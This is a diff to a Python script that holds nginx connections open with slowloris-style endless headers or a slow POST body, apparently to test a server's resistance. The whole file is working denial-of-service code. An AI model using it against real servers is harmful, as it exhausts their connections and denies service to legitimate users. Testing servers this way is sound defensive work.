@@ -1,6 +1,7 @@
-"""Runs on the attacker, as `python3 -c`: connections that never finish a request, a byte now and then (slowloris).
+"""Runs on the attacker, as `python3 -c`: requests that never end, a byte now and then, to hold nginx's connections.
 
-Arguments: the address, how many, for how many seconds. Prints how many of them are held at the end.
+Arguments: what doesn't end, "headers" (slowloris) or "body"; the address, the host's name, how many, for how many
+seconds. Prints how many of them are held at the end.
 """
 
 import sys
@@ -8,13 +9,17 @@ import time
 from socket import create_connection, socket
 
 PAUSE_S = 2
+BEGIN = {
+    "headers": "GET / HTTP/1.1\r\nX-A: ",
+    "body": "POST / HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n",
+}
 
 
-def main(address: str, many: str, seconds: str) -> None:
+def main(endless: str, address: str, name: str, many: str, seconds: str) -> None:
     held = []
     for _ in range(int(many)):
         one = create_connection((address, 80), timeout=5)
-        one.sendall(b"GET / HTTP/1.1\r\nX-A: ")
+        one.sendall(BEGIN[endless].format(name).encode())
         held.append(one)
     until = time.monotonic() + float(seconds)
     while time.monotonic() < until:
@@ -24,11 +29,11 @@ def main(address: str, many: str, seconds: str) -> None:
 
 
 def is_open(one: socket) -> bool:
-    """As the answer is never asked for, anything to read is the connection's end."""
+    """Whether it takes one more byte. To a body that nobody wants there is an answer before its end."""
     one.settimeout(0)
     try:
         one.sendall(b"a")
-        return bool(one.recv(1))
+        return bool(one.recv(65536))
     except BlockingIOError:
         return True
     except OSError:
